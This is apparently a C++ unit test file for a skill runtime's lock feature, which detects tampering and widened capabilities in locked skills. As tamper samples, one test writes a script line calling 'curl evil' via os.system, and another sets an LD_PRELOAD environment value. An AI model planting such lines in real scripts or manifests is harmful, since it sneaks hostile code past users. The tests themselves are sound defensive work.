#include "skillrt/lock.h"

#include <sys/stat.h>

#include <algorithm>
#include <string>

#include <gtest/gtest.h>

#include "test_util.h"

namespace skillrt {
namespace {

namespace fs = std::filesystem;
using ::skillrt::testing::ReadFile;
using ::skillrt::testing::TempDir;
using ::skillrt::testing::WriteFile;

constexpr std::string_view kManifest = R"(
[entry]
argv = ["python3", "scripts/run.py"]

[capabilities]
read = ["/srv/data"]
commands = ["python3", "sort"]

[limits]
wall_time_ms = 10000
)";

class LockTest : public ::testing::Test {
 protected:
  void SetUp() override {
    dir_ = tmp_.path() / "tool";
    WriteFile(dir_ / "SKILL.md", "---\nname: tool\ndescription: A tool.\n---\n# Tool\n");
    WriteFile(dir_ / "skill.toml", kManifest);
    WriteFile(dir_ / "scripts/run.py", "print('{}')\n");
    WriteFile(dir_ / "modules/m.wasm", std::string("\0asm", 4));
  }

  Skill Load() {
    auto skill = LoadSkill(dir_);
    EXPECT_TRUE(skill.has_value()) << skill.error().ToString();
    return skill.value_or(Skill{});
  }

  LockedSkill Lock() {
    auto entry = LockSkill(Load());
    EXPECT_TRUE(entry.has_value()) << entry.error().ToString();
    return entry.value_or(LockedSkill{});
  }

  Drift Compare(const LockedSkill& locked) {
    auto drift = CompareWithLock(Load(), locked);
    EXPECT_TRUE(drift.has_value()) << drift.error().ToString();
    return drift.value_or(Drift{});
  }

  TempDir tmp_;
  fs::path dir_;
};

TEST_F(LockTest, TreeHashCoversSkillMdManifestScriptsAndModules) {
  const LockedSkill locked = Lock();
  EXPECT_EQ(locked.files.size(), 6u);  // SKILL.md, skill.toml, 2 dirs, 2 files.
  for (const std::string rel : {"SKILL.md", "skill.toml", "scripts/run.py", "modules/m.wasm"}) {
    const std::string before = ReadFile(dir_ / rel);
    WriteFile(dir_ / rel, before + "\n# edit\n");
    Skill edited = Load();
    EXPECT_NE(edited.tree_sha256, locked.tree_sha256) << rel;
    Drift drift = Compare(locked);
    EXPECT_TRUE(drift.tree_changed) << rel;
    EXPECT_EQ(drift.changed, std::vector<std::string>{rel});
    WriteFile(dir_ / rel, before);
    EXPECT_EQ(Load().tree_sha256, locked.tree_sha256) << rel;
  }
}

TEST_F(LockTest, UnchangedSkillIsAllowed) {
  const LockedSkill locked = Lock();
  Drift drift = Compare(locked);
  EXPECT_FALSE(drift.tree_changed);
  EXPECT_TRUE(drift.allowed);
  EXPECT_TRUE(drift.widened.empty());
}

TEST_F(LockTest, EditedScriptIsRefusedAndNamed) {
  LockFile lock;
  lock.skills["tool"] = Lock();
  WriteFile(dir_ / "scripts/run.py", "import os; os.system('curl evil')\n");
  WriteFile(dir_ / "scripts/extra.sh", "true\n");
  fs::remove(dir_ / "modules/m.wasm");
  auto checked = CheckLock(Load(), lock, "/h/skills.lock", false);
  ASSERT_FALSE(checked.has_value());
  EXPECT_EQ(checked.error().code, ErrorCode::kDenied);
  const std::string& message = checked.error().message;
  EXPECT_NE(message.find("skill 'tool' drifted from its lock (/h/skills.lock"), std::string::npos)
      << message;
  EXPECT_NE(message.find("changed: scripts/run.py"), std::string::npos) << message;
  EXPECT_NE(message.find("added: scripts/extra.sh"), std::string::npos) << message;
  EXPECT_NE(message.find("removed: modules/m.wasm"), std::string::npos) << message;
  EXPECT_NE(message.find("skillrt lock tool"), std::string::npos) << message;

  lock.skills["tool"] = Lock();  // Re-locking approves the new tree.
  EXPECT_TRUE(CheckLock(Load(), lock, "/h/skills.lock", false).has_value());
}

TEST_F(LockTest, WidenedCapabilitiesAreRefused) {
  const LockedSkill locked = Lock();
  std::string widened(kManifest);
  widened.replace(widened.find("\"sort\"]"), 7, "\"sort\", \"curl\"]");
  widened.replace(widened.find("10000"), 5, "60000");
  widened.replace(widened.find("read = [\"/srv/data\"]"), 20,
                  "read = [\"/srv/data\", \"/home\"]\nwrite = [\"/srv/data/out\"]");
  WriteFile(dir_ / "skill.toml", widened);
  Drift drift = Compare(locked);
  EXPECT_FALSE(drift.allowed);
  EXPECT_EQ(drift.changed, std::vector<std::string>{"skill.toml"});
  const std::vector<std::string> expected = {
      "capabilities.read: +/home", "capabilities.write: +/srv/data/out",
      "capabilities.commands: +curl", "limits.wall_time_ms: 10000 -> 60000"};
  EXPECT_EQ(drift.widened, expected);

  LockFile lock;
  lock.skills["tool"] = locked;
  auto checked = CheckLock(Load(), lock, "/h/skills.lock", false);
  ASSERT_FALSE(checked.has_value());
  EXPECT_NE(checked.error().message.find("widened: capabilities.read: +/home"), std::string::npos)
      << checked.error().message;
}

TEST_F(LockTest, NarrowingAloneIsAllowed) {
  const LockedSkill locked = Lock();
  std::string narrowed(kManifest);
  narrowed.replace(narrowed.find(", \"sort\"]"), 9, "]");
  narrowed.replace(narrowed.find("10000"), 5, "5000");
  narrowed.replace(narrowed.find("read = [\"/srv/data\"]"), 20, "read = [\"/srv/data/sub\"]");
  WriteFile(dir_ / "skill.toml", narrowed);
  Drift drift = Compare(locked);
  EXPECT_TRUE(drift.tree_changed);
  EXPECT_TRUE(drift.allowed);
  EXPECT_TRUE(drift.widened.empty());
  const auto& narrowed_list = drift.narrowed;
  EXPECT_NE(std::find(narrowed_list.begin(), narrowed_list.end(), "capabilities.commands: -sort"),
            narrowed_list.end());
  EXPECT_NE(std::find(drift.narrowed.begin(), drift.narrowed.end(),
                      "limits.wall_time_ms: 10000 -> 5000"),
            drift.narrowed.end());
}

TEST_F(LockTest, ManifestChangesToWhatRunsAreRefusedEvenWithoutWidening) {
  const LockedSkill locked = Lock();
  std::string changed(kManifest);
  changed.replace(changed.find("scripts/run.py"), 14, "scripts/other.py");
  WriteFile(dir_ / "skill.toml", changed + "\n[capabilities.env]\nset = { LD_PRELOAD = \"x\" }\n");
  Drift drift = Compare(locked);
  EXPECT_FALSE(drift.allowed);
  EXPECT_EQ(drift.behaviour, (std::vector<std::string>{"entry", "env_set"}));
}

TEST_F(LockTest, NewSecretOrDroppedRedactionWidens) {
  WriteFile(dir_ / "skill.toml", std::string(kManifest) + "\n[secrets]\nA = {}\n");
  const LockedSkill locked = Lock();
  WriteFile(dir_ / "skill.toml",
            std::string(kManifest) + "\n[secrets]\nA = { redact = false }\nB = {}\n");
  Drift drift = Compare(locked);
  EXPECT_FALSE(drift.allowed);
  EXPECT_EQ(drift.widened,
            (std::vector<std::string>{"secrets.A.redact: true -> false", "secrets: +B"}));
}

TEST_F(LockTest, UnlockedSkillsRunUnlessALockIsRequired) {
  LockFile lock;
  EXPECT_TRUE(CheckLock(Load(), lock, "/h/skills.lock", false).has_value());
  auto required = CheckLock(Load(), lock, "/h/skills.lock", true);
  ASSERT_FALSE(required.has_value());
  EXPECT_EQ(required.error().code, ErrorCode::kDenied);
  EXPECT_NE(required.error().message.find("is not locked"), std::string::npos);
  lock.require = true;
  EXPECT_FALSE(CheckLock(Load(), lock, "/h/skills.lock", false).has_value());
}

TEST_F(LockTest, LockFileRoundTripsAtomicallyWithMode0600) {
  const fs::path file = tmp_.path() / "home/skills.lock";
  fs::create_directories(file.parent_path());
  const LockedSkill entry = Lock();
  auto written = UpdateLockFile(file, [&](LockFile& lock) -> Result<void> {
    lock.skills["tool"] = entry;
    lock.require = true;
    return {};
  });
  ASSERT_TRUE(written.has_value()) << written.error().ToString();
  struct stat st {};
  ASSERT_EQ(::stat(file.c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  auto read = ReadLockFile(file);
  ASSERT_TRUE(read.has_value()) << read.error().ToString();
  EXPECT_TRUE(read->require);
  ASSERT_TRUE(read->skills.contains("tool"));
  EXPECT_EQ(read->skills.at("tool").tree_sha256, entry.tree_sha256);
  EXPECT_EQ(read->skills.at("tool").files, entry.files);
  EXPECT_EQ(read->skills.at("tool").grant, entry.grant);

  // A failed edit writes nothing; no temporary file is left behind.
  const std::string before = ReadFile(file);
  auto failed = UpdateLockFile(file, [](LockFile& lock) -> Result<void> {
    lock.skills.clear();
    return Fail(ErrorCode::kNotFound, "no");
  });
  EXPECT_FALSE(failed.has_value());
  EXPECT_EQ(ReadFile(file), before);
  for (const auto& e : fs::directory_iterator(file.parent_path())) {
    EXPECT_EQ(e.path().filename().string().find(".tmp-"), std::string::npos) << e.path();
  }
}

TEST_F(LockTest, DamagedLockFileNamesFileAndKey) {
  const fs::path file = tmp_.path() / "skills.lock";
  WriteFile(file, "{not json");
  auto bad = ReadLockFile(file);
  ASSERT_FALSE(bad.has_value());
  EXPECT_EQ(bad.error().code, ErrorCode::kParse);
  EXPECT_NE(bad.error().message.find(file.string()), std::string::npos);
  WriteFile(file, R"({"version": 1, "skills": {"tool": {"dir": "/x", "tree_sha256": 5}}})");
  bad = ReadLockFile(file);
  ASSERT_FALSE(bad.has_value());
  EXPECT_EQ(bad.error().message, file.string() + ": skills.tool.tree_sha256: expected a string");
  EXPECT_TRUE(ReadLockFile(tmp_.path() / "missing.lock").has_value());
}

TEST_F(LockTest, EgressHostsAreGrants) {
  std::string with_network(kManifest);
  with_network += "[capabilities.network]\nallow = [\"api.example.com\"]\n";
  WriteFile(dir_ / "skill.toml", with_network);
  const LockedSkill locked = Lock();
  EXPECT_EQ(locked.grant["capabilities"]["egress"],
            nlohmann::json::array({"api.example.com:443"}));

  WriteFile(dir_ / "skill.toml",
            std::string(kManifest) +
                "[capabilities.network]\nallow = [\"api.example.com\", "
                "{ host = \"db.test:5432\", addresses = [\"10.0.0.0/8\"] }]\n");
  Drift drift = Compare(locked);
  EXPECT_FALSE(drift.allowed);
  EXPECT_EQ(drift.widened,
            std::vector<std::string>{"capabilities.egress: +db.test:5432 via 10.0.0.0/8"});

  // Making an entry TLS-only narrows it; the lock of a TLS-only entry is widened by dropping
  // the flag.
  WriteFile(dir_ / "skill.toml", std::string(kManifest) +
                                     "[capabilities.network]\nallow = [{ host = "
                                     "\"api.example.com\", tls = true }]\n");
  drift = Compare(locked);
  EXPECT_TRUE(drift.allowed) << drift.widened.size();
  EXPECT_EQ(Lock().grant["capabilities"]["egress"],
            nlohmann::json::array({"api.example.com:443 tls"}));

  WriteFile(dir_ / "skill.toml", std::string(kManifest));
  drift = Compare(locked);
  EXPECT_TRUE(drift.allowed);
  EXPECT_NE(std::find(drift.narrowed.begin(), drift.narrowed.end(),
                      "capabilities.egress: -api.example.com:443"),
            drift.narrowed.end());
}

TEST_F(LockTest, InferredInterpretersAreGrants) {
  fs::remove(dir_ / "skill.toml");
  const LockedSkill locked = Lock();
  EXPECT_EQ(locked.grant["capabilities"]["script_commands"],
            nlohmann::json::array({"python", "python3"}));
  // A skill with skill.toml records none, so its lock is as before.
  Manifest declared;
  declared.capabilities.commands = {"python3"};
  EXPECT_FALSE(GrantOf(declared)["capabilities"].contains("script_commands"));

  // A new script that needs another interpreter is a widening the lock names (besides the
  // changed tree).
  WriteFile(dir_ / "scripts/run.sh", "echo\n");
  Drift drift = Compare(locked);
  EXPECT_FALSE(drift.allowed);
  EXPECT_NE(std::find(drift.widened.begin(), drift.widened.end(),
                      "capabilities.script_commands: +bash"),
            drift.widened.end());
}

}  // namespace
}  // namespace skillrt
